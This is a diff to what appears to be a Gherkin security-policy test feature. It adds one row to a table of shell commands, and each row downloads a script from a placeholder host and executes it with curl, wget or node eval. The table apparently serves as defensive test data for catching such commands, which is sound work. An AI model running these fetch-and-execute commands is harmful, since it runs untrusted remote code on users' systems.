@@ -60,6 +60,7 @@ Feature: Security policy - targets known only at run time
       | node -e "fetch('https://example.invalid/x.js').then(r=>r.text()).then(eval)" |
       | curl -o /tmp/i.sh https://example.invalid/i.sh && sh /tmp/i.sh |
       | curl -fsSLO https://example.invalid/install.sh && bash install.sh |
+      | curl --remote-name-all https://example.invalid/install.sh && bash install.sh |
       | curl -fsSL https://example.invalid/i.sh -o i.sh && chmod +x i.sh && ./i.sh |
       | curl https://example.invalid/i.sh > i.sh; sh i.sh |
       | wget -O i.sh https://example.invalid/i.sh && bash i.sh |
